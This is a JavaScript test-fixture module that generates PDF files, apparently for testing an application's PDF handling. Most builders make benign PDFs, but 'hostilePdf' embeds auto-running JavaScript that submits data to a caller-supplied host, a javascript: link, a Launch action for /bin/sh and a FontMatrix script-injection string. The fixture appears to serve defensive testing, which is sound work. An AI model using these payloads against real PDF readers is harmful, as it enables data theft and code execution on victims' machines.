// PDF files: an honest one, one behind a password, and one of a stranger who would like to act.
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';

const require = createRequire(fileURLToPath(new URL('../../../apps/api/package.json', import.meta.url)));
const PDFDocument = require('pdfkit');

/** A page for each text. */
export function pdfOf(texts, options = {}, style = {}) {
  const pdf = new PDFDocument({ autoFirstPage: false, ...options });
  const parts = [];
  return new Promise((resolve, reject) => {
    pdf.on('data', (part) => parts.push(part));
    pdf.on('end', () => resolve(Buffer.concat(parts)));
    pdf.on('error', reject);
    for (const text of texts) pdf.addPage().fontSize(32).text(text, style);
    pdf.end();
  });
}

/** A page whose words lead to `address`. */
export function linkingPdf(words, address) {
  return pdfOf([words], {}, { link: address, underline: true });
}

/** A page that lies on its side, whose words lead to `address`. */
export function turnedPdf(words, address) {
  const content = `BT /F1 32 Tf 100 400 Td (${words}) Tj ET`;
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /Rotate 90 /MediaBox [0 0 612 792] /Contents 4 0 R /Annots [6 0 R] /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    `<< /Type /Annot /Subtype /Link /Rect [100 390 300 430] /A << /S /URI /URI (${address}) >> >>`,
  ]);
}

/** Chinese words of a font that every reader is expected to have: the file holds neither it nor its table of characters. */
export function chinesePdf(words) {
  const codes = [...words].map((character) => character.codePointAt(0).toString(16).padStart(4, '0')).join('');
  const content = `BT /F1 48 Tf 72 650 Td <${codes}> Tj ET`;
  return rawPdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type0 /BaseFont /STSong-Light /Encoding /UniGB-UCS2-H /DescendantFonts [6 0 R] >>',
    '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /STSong-Light /CIDSystemInfo << /Registry (Adobe) /Ordering (GB1) /Supplement 2 >> /DW 1000 /FontDescriptor 7 0 R >>',
    '<< /Type /FontDescriptor /FontName /STSong-Light /Flags 6 /FontBBox [-25 -254 1000 880] /ItalicAngle 0 /Ascent 880 /Descent -120 /CapHeight 880 /StemV 93 >>',
  ]);
}

/** Scripts when it is opened and when its page is, links that are scripts and programs, and a font whose matrix is a program. */
export function hostilePdf(elsewhere) {
  const content = 'BT /F1 32 Tf 72 700 Td (The end of it.) Tj /F2 32 Tf 0 -60 Td (A) Tj ET';
  const script = `(app.alert\\(1\\); this.submitForm\\('${elsewhere}/stolen'\\); app.launchURL\\('${elsewhere}/stolen'\\);)`;
  const link = (at, action) => `<< /Type /Annot /Subtype /Link /Rect [0 ${at} 600 ${at + 150}] /A ${action} >>`;
  return rawPdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ${script} >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ${script} >>] >> >> >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /AA << /O << /S /JavaScript /JS ${script} >> >> /Annots [6 0 R 7 0 R 8 0 R] /Resources << /Font << /F1 5 0 R /F2 9 0 R >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    link(0, '<< /S /URI /URI (javascript:alert\\(1\\)) >>'),
    link(200, '<< /S /Launch /F (/bin/sh) >>'),
    link(400, `<< /S /URI /URI (${elsewhere}/stolen) >>`),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Mine /FirstChar 65 /LastChar 65 /Widths [500] /FontMatrix [1 2 3 4 5 (1\\); alert\\('font'\\); \\(0)] /FontDescriptor << /Type /FontDescriptor /FontName /Mine /Flags 4 >> >>",
  ]);
}

function rawPdf(objects) {
  let text = '%PDF-1.7\n';
  const places = objects.map((object, at) => {
    const place = text.length;
    text += `${at + 1} 0 obj\n${object}\nendobj\n`;
    return place;
  });
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const size = objects.length + 1;
  return Buffer.from(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  );
}
